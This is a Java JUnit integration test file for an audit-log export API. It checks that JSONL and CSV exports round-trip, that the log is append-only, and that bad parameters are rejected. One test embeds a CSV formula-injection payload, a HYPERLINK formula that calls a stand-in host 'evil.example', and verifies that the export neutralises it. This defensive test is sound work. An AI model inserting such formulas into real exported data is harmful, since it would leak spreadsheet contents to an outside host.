package io.pedigree.audit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.pedigree.testing.Api;
import io.pedigree.testing.PedigreeIT;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static io.pedigree.testing.ProblemAssert.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

/** Exports parse back to exactly what the listing shows; the log cannot be changed through the API. */
class ExportAndAppendOnlyIT extends PedigreeIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HEADER =
            "seq,at,actor,action,target,targets,before,after,reason,details,prevHash,hash\r\n";
    private static final String AWKWARD = "rotated, because \"ops\" said so\nsecond line\r\nthird; ünïcödé";

    @BeforeEach
    void history() {
        admin.post("/api/v1/admin/tokens", Map.of("principal", "nightly", "roles", List.of("reader"),
                "description", AWKWARD));
        admin.post("/api/v1/admin/tokens", Map.of("principal", "ci-bot", "roles", List.of("writer"),
                "description", ""));
        admin.put("/api/v1/nodes", Map.of("key", "model:fraud@1", "properties", Map.of("note", "a,b")));
    }

    private static List<JsonNode> jsonLines(String body) throws Exception {
        List<JsonNode> out = new ArrayList<>();
        for (String line : body.split("\n")) {
            out.add(JSON.readTree(line));
        }
        return out;
    }

    /** The CSV records of a body as one map per event, keyed by the header row. */
    private static List<Map<String, String>> csvRecords(String body) {
        List<List<String>> rows = CsvReader.parse(body);
        List<String> header = rows.get(0);
        List<Map<String, String>> out = new ArrayList<>();
        for (List<String> row : rows.subList(1, rows.size())) {
            assertThat(row).hasSameSizeAs(header);
            Map<String, String> record = new java.util.LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) {
                record.put(header.get(i), row.get(i));
            }
            out.add(record);
        }
        return out;
    }

    @Test
    void jsonLinesExportIsTheListingLineByLine() throws Exception {
        Api.Response r = admin.get("/api/v1/audit/export?format=jsonl");

        assertThat(r.status()).isEqualTo(200);
        assertThat(r.contentType()).startsWith("application/x-ndjson");
        assertThat(r.headers().firstValue("Content-Disposition").orElse(""))
                .isEqualTo("attachment; filename=\"pedigree-audit.jsonl\"");
        assertThat(r.body()).endsWith("\n");
        assertThat(jsonLines(r.body())).isEqualTo(AuditTrail.all(admin));
    }

    @Test
    void csvExportHasAHeaderAndParsesBackToTheListingWithCommasQuotesAndLineBreaksIntact() throws Exception {
        Api.Response r = admin.get("/api/v1/audit/export?format=csv");
        List<JsonNode> listed = AuditTrail.all(admin);

        assertThat(r.status()).isEqualTo(200);
        assertThat(r.contentType()).startsWith("text/csv");
        assertThat(r.headers().firstValue("Content-Disposition").orElse("")).startsWith("attachment;");
        assertThat(r.body()).startsWith(HEADER);
        List<Map<String, String>> records = csvRecords(r.body());
        assertThat(records).hasSameSizeAs(listed).hasSize(4);
        for (int i = 0; i < listed.size(); i++) {
            JsonNode e = listed.get(i);
            Map<String, String> c = records.get(i);
            for (String field : List.of("seq", "at", "actor", "action", "target", "before", "after", "reason",
                    "prevHash", "hash")) {
                assertThat(c.get(field)).as("%s of event %d", field, i + 1)
                        .isEqualTo(e.path(field).isNull() ? "" : e.path(field).asText());
            }
            assertThat(JSON.readTree(c.get("targets"))).isEqualTo(e.path("targets"));
            assertThat(JSON.readTree(c.get("details"))).isEqualTo(e.path("details"));
        }
        assertThat(records.get(1).get("reason")).isEqualTo(AWKWARD);
    }

    @Test
    void csvNeutralisesFormulaCellsWhileJsonLinesKeepTheExactText() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
        admin.post("/api/v1/admin/tokens", Map.of("principal", "@mallory", "roles", List.of("reader"),
                "description", formula));

        List<Map<String, String>> csv = csvRecords(admin.get("/api/v1/audit/export?format=csv").body());
        Map<String, String> last = csv.get(csv.size() - 1);
        assertThat(last.get("reason")).isEqualTo("'" + formula);
        assertThat(admin.get("/api/v1/audit/export?format=csv").body())
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");

        String jsonl = admin.get("/api/v1/audit/export?format=jsonl").body();
        List<JsonNode> lines = jsonLines(jsonl);
        assertThat(lines.get(lines.size() - 1).path("reason").asText()).isEqualTo(formula);
        assertThat(lines).isEqualTo(AuditTrail.all(admin));
        assertThat(jsonl).contains(JSON.writeValueAsString(formula));
    }

    @Test
    void exportTakesTheListingsFilters() throws Exception {
        Api.Response r = admin.get("/api/v1/audit/export?action=token.&actor=admin&from=2020-01-01");

        assertThat(jsonLines(r.body())).isEqualTo(AuditTrail.all(admin, "action=token.&actor=admin", 1000))
                .hasSize(2);
    }

    @Test
    void exportOfNothingIsEmptyOrJustTheHeader() {
        assertThat(admin.get("/api/v1/audit/export?actor=nobody").body()).isEmpty();
        assertThat(admin.get("/api/v1/audit/export?format=csv&actor=nobody").body()).isEqualTo(HEADER);
    }

    @Test
    void exportReadsPageByPageAndLosesNothingAtPageEdges() throws Exception {
        for (int i = 2; i <= 6; i++) {
            admin.put("/api/v1/nodes", Map.of("key", "model:fraud@" + i));
        }
        ByteArrayOutputStream paged = new ByteArrayOutputStream();
        new AuditExport(new AuditReader(app.database()), 2).write(AuditQuery.all(), ExportFormat.JSONL, paged);

        assertThat(jsonLines(paged.toString(StandardCharsets.UTF_8))).isEqualTo(AuditTrail.all(admin)).hasSize(9);
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource({
        "POST, /api/v1/audit",
        "PUT, /api/v1/audit",
        "DELETE, /api/v1/audit",
        "PATCH, /api/v1/audit",
        "PUT, /api/v1/audit/verify",
        "DELETE, /api/v1/audit/checkpoints",
        "DELETE, /api/v1/audit/export"
    })
    void theLogCannotBeChangedThroughTheApi(String method, String path) {
        Api.Response r = admin.send(admin.builder(path).header("Content-Type", "application/json")
                .method(method, HttpRequest.BodyPublishers.ofString("{\"seq\": 1}")));

        assertProblem(r, 405);
        assertThat(AuditTrail.verify(admin).path("ok").asBoolean()).isTrue();
        assertThat(AuditTrail.all(admin)).hasSize(4);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "/api/v1/audit?from=last-tuesday | from",
        "/api/v1/audit?to=2026-13-01 | to",
        "/api/v1/audit?from=2026-10-02&to=2026-10-01 | to",
        "/api/v1/audit?cursor=not-a-cursor | cursor",
        "/api/v1/audit?cursor=bm9kZTpmb28 | cursor",
        "/api/v1/audit?limit=0 | limit",
        "/api/v1/audit?limit=1001 | limit",
        "/api/v1/audit?limit=many | limit",
        "/api/v1/audit/export?format=xml | format",
        "/api/v1/audit/export?format=csv&from=soon | from",
        "/api/v1/audit/verify?fromSeq=0 | fromSeq",
        "/api/v1/audit/verify?toSeq=x | toSeq",
        "/api/v1/audit/verify?fromSeq=5&toSeq=2 | toSeq"
    })
    void badParametersAreRefusedNamingTheParameter(String path, String field) {
        assertProblem(admin.get(path), 400, field);
    }
}
